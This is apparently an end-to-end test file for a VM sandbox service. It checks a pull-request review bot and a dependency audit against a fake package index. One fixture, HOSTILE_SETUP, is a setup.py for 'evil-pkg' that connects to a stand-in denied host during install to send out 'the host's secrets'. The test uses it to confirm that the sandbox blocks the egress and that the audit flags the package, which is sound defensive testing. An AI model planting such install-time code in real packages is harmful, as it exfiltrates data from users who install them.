"""The examples/ bots, run as written by an unprivileged user in the sandbox group against a real `serve`
on real VMs. Needs root, QEMU and the built `base` template: failing under CI=true."""

from __future__ import annotations

import base64
import hashlib
import http.server
import io
import json
import os
import subprocess
import tarfile
import zipfile
from contextlib import ExitStack
from pathlib import Path

import pytest

from runner.jobapi.client import JobClient
from runner.service.config.reading import config_from_mapping
from tests.e2e.fake_internet import DENIED_HOST, fake_internet
from tests.e2e.test_vm_e2e_serve import serve  # noqa: F401 (fixture)
from tests.e2e.test_vm_sdk import PYTHON, ROOT, Users, run_as, users  # noqa: F401 (fixture)
from tests.e2e.vm_jobs import templates, vm_root  # noqa: F401 (fixtures)
from tests.net import net_fakes

pytestmark = pytest.mark.vm
REVIEW_BOT = ROOT / "examples" / "review-bot" / "review_bot.py"

CALC = "def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n    return a - b\n"
TESTS = ("import unittest\n\nfrom calc import add, sub\n\n\nclass TestCalc(unittest.TestCase):\n"
         "    def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n\n"
         "    def test_sub(self):\n        self.assertEqual(sub(5, 3), 2)\n")


def git(*args: str, cwd: Path) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", *args], cwd=cwd, check=True,
                   capture_output=True, timeout=60)


def bare_repository(root: Path) -> Path:
    """A bare repository standing in for GitHub: main, a good PR (refs/pull/1/head), a PR that breaks sub (2)."""
    work, bare = root / "work", root / "project.git"
    work.mkdir()
    git("init", "-q", "-b", "main", cwd=work)
    (work / "calc.py").write_text(CALC)
    (work / "test_calc.py").write_text(TESTS)
    git("add", ".", cwd=work)
    git("commit", "-qm", "calc", cwd=work)
    (work / "calc.py").write_text(CALC + "\n\ndef mul(a, b):\n    return a * b\n")
    git("commit", "-qam", "mul", cwd=work)
    git("update-ref", "refs/pull/1/head", "HEAD", cwd=work)
    (work / "calc.py").write_text(CALC.replace("return a - b", "return b - a"))
    git("commit", "-qam", "a refactor of sub", cwd=work)
    git("update-ref", "refs/pull/2/head", "HEAD", cwd=work)
    git("clone", "-q", "--bare", "--mirror", str(work), str(bare), cwd=root)
    os.chmod(root, 0o755)
    return bare


def test_the_review_bot_reviews_two_prs(serve, vm_root: Path, users: Users) -> None:
    os.chmod(vm_root, 0o755)
    service = serve({"socket_group": users.socket_group, "sandboxes": {"group": users.sandbox_group}})
    socket = vm_root / "api.sock"
    operator = JobClient(socket=str(socket))
    service.wait_answering(operator)
    (vm_root / "git").mkdir()
    bare = bare_repository(vm_root / "git")  # under vm_root: the bot user reads it
    done = run_as(users.bot, [str(PYTHON), "-I", str(REVIEW_BOT), "--repository", str(bare), "--ref",
                              "refs/pull/1/head", "--ref", "refs/pull/2/head", "--socket", str(socket)], 900)
    assert done.returncode == 0, done.stderr
    good, bad = done.stdout.split("## Review of ")[1:]
    assert good.startswith("refs/pull/1/head") and "**Approve**: all 2 tests pass." in good, done.stdout
    assert bad.startswith("refs/pull/2/head") and "**Request changes**: 1 failed, 1 passed (exit 1)." in bad
    assert "- `test_calc.TestCalc.test_sub`" in bad and "AssertionError: -2 != 2" in bad, bad
    sandboxes = [r for r in operator.list(20) if r.job_name == "sandbox"]
    assert len(sandboxes) == 3 and all(r.state.value == "finished" for r in sandboxes), sandboxes
    assert sum(r.warm for r in sandboxes) == 2, "the reviews did not restore from the warm base"
    assert service.stop() == 0, service.stderr()


# -- the dependency audit: a fake package index in a fake internet, one hostile package ------------------

AUDIT = ROOT / "examples" / "dependency-audit" / "audit.py"
INDEX_HOST, INDEX_PORT = "203.0.113.30", 8080  # tests/net/net_fakes.py keeps this address for a package index
HOSTILE_SETUP = f"""
import socket
from setuptools import setup
try:
    socket.create_connection(("{DENIED_HOST}", 8000), timeout=3).sendall(b"the host's secrets")
    print("PHONED HOME")
except OSError as exc:
    print("phone home failed:", exc)
setup(name="evil-pkg", version="1.0", py_modules=[])
"""


def wheel(name: str, version: str, module: str) -> bytes:
    dist = f"{name.replace('-', '_')}-{version}.dist-info"
    files = {f"{module}.py": b"VALUE = 1\n",
             f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
             f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = "".join(f"{n},sha256={base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b'=').decode()},"
                     f"{len(d)}\n" for n, d in files.items()) + f"{dist}/RECORD,,\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for n, d in files.items():
            archive.writestr(n, d)
        archive.writestr(f"{dist}/RECORD", record)
    return buffer.getvalue()


def sdist(name: str, version: str, setup_py: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for member, data in ((f"{name}-{version}/setup.py", setup_py.encode()),
                             (f"{name}-{version}/PKG-INFO",
                              f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode())):
            info = tarfile.TarInfo(member)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


FILES = {"good_pkg-1.0-py3-none-any.whl": wheel("good-pkg", "1.0", "good_pkg"),
         "old_pkg-0.9-py3-none-any.whl": wheel("old-pkg", "0.9", "old_pkg"),
         "evil-pkg-1.0.tar.gz": sdist("evil-pkg", "1.0", HOSTILE_SETUP)}


class IndexHandler(http.server.BaseHTTPRequestHandler):
    """PEP 503 pages for the three projects and their files."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        project = self.path.strip("/").removeprefix("simple/")
        names = [f for f in FILES if f.replace("_", "-").startswith(project + "-")]
        if self.path.startswith("/simple/") and names:
            body, kind = "".join(f'<a href="/files/{f}">{f}</a>' for f in names).encode(), "text/html"
        elif self.path.removeprefix("/files/") in FILES:
            body, kind = FILES[self.path.removeprefix("/files/")], "application/octet-stream"
        else:
            self.send_error(404)
            return
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


def test_the_dependency_audit_refuses_and_reports_a_hostile_install(need_netns, vm_root: Path, users: Users) -> None:
    from runner.service.api import page as web
    from runner.service.host.assembly import ServiceHost

    os.chmod(vm_root, 0o755)
    store = vm_root / "policies"
    (store / "audit").mkdir(parents=True)
    (store / "audit" / "deps.yml").write_text(f"version: 1\nallow:\n  - cidr: {INDEX_HOST}/32\n    ports: [{INDEX_PORT}]\n")
    work = vm_root / "audit"
    work.mkdir()
    (work / "requirements.txt").write_text("good-pkg==1.0\nold-pkg==0.9\nevil-pkg==1.0\n")
    (work / "advisories.json").write_text(json.dumps({"old-pkg": {"0.9": "EXAMPLE-2026-1: old-pkg 0.9 leaks"}}))
    with ExitStack() as stack:
        internet = stack.enter_context(fake_internet())
        net_fakes.http_server_in(internet.namespace, INDEX_HOST, INDEX_PORT, IndexHandler, stack)
        config = config_from_mapping({"socket": str(vm_root / "api.sock"), "state_dir": str(vm_root / "state"),
                                      "shutdown_grace_seconds": 0, "network": internet.network,
                                      "socket_group": users.socket_group, "policy_dir": str(store),
                                      "sandboxes": {"group": users.sandbox_group, "repository": "audit/deps"}})
        host = stack.enter_context(ServiceHost(config, engine=internet.engine(pool_size=0)))
        done = run_as(users.bot, [str(PYTHON), "-I", str(AUDIT), "--lockfile", str(work / "requirements.txt"),
                                  "--index", f"http://{INDEX_HOST}:{INDEX_PORT}/simple", "--advisories",
                                  str(work / "advisories.json"), "--socket", config.socket], 1500)
        assert done.returncode == 1, done.stderr
        report = json.loads(done.stdout)
        good, old, evil = report["good-pkg==1.0"], report["old-pkg==0.9"], report["evil-pkg==1.0"]
        assert good["verdict"] == "ok" and good["installed"] == {"good-pkg": "1.0"}, good["output_tail"]
        assert old["verdict"] == "vulnerable" and "EXAMPLE-2026-1" in old["advisories"]["old-pkg"], old
        assert evil["verdict"] == "hostile" and evil["refused_egress"] == [f"{DENIED_HOST}:8000"], evil
        record = host.service.get(evil["sandbox"])  # the sandbox's record, as the page reads it
        assert [(b.dest, b.port) for b in record.blocked_egress] == [(DENIED_HOST, 8000)], record
        page = web.job_page(host.service, evil["sandbox"]).body.decode()
        assert DENIED_HOST in page and "sandbox of uid" in page
        assert host.engine is not None and host.engine.live() == [], "an audit sandbox outlived its destroy"
